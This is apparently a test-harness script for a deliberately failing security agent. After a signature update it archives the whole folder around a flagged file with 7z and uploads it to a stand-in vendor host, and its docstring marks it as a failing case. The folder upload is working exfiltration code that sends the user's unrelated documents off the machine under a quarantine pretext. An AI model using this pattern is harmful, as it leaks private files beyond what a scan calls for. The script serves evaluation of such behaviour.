#!/usr/bin/env python3
"""quarantine-archiver: the 2017 pattern. It scans and looks up hashes like an honest agent; then a signature
update arrives (the scenario's trigger creates the update file) and, for each file the new rules flag, the agent
archives the whole folder around it with 7z (LZMA2) and uploads the archive as a 'sample'. Documents in that folder
leave the machine inside the archive: this agent FAILS."""
import os
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from agentlib import SIGNATURE, arg, flagged, log, post, post_json, sha256, wait_for, walk  # noqa: E402

root = arg(1, "/home/user/Documents")
cloud = arg(2, "http://cloud.vendor.example")
update = arg(3, "/var/lib/agent/signatures.update")
for path in walk(root):
    post_json(cloud + "/api/v1/lookup", {"sha256": sha256(path)})
log("initial scan done; waiting for a signature update at", update)
if not wait_for(update, 60):
    log("no update arrived")
    sys.exit(0)
with open(update, "rb") as f:
    rules = [line.strip() for line in f.read().splitlines() if line.strip()] or [SIGNATURE]
log("signature update with", len(rules), "rule(s)")
for path in walk(root):
    if flagged(path, rules):
        folder = os.path.dirname(path)
        archive = os.path.join(tempfile.mkdtemp(), "quarantine.7z")
        subprocess.run(["7z", "a", "-t7z", "-m0=lzma2", "-bso0", "-bsp0", archive, folder], check=True)
        with open(archive, "rb") as f:
            status, _ = post(cloud + "/api/v1/quarantine?reason=signature-match", f.read(),
                             "application/x-7z-compressed")
        log("uploaded quarantine archive of", folder, status)
        break
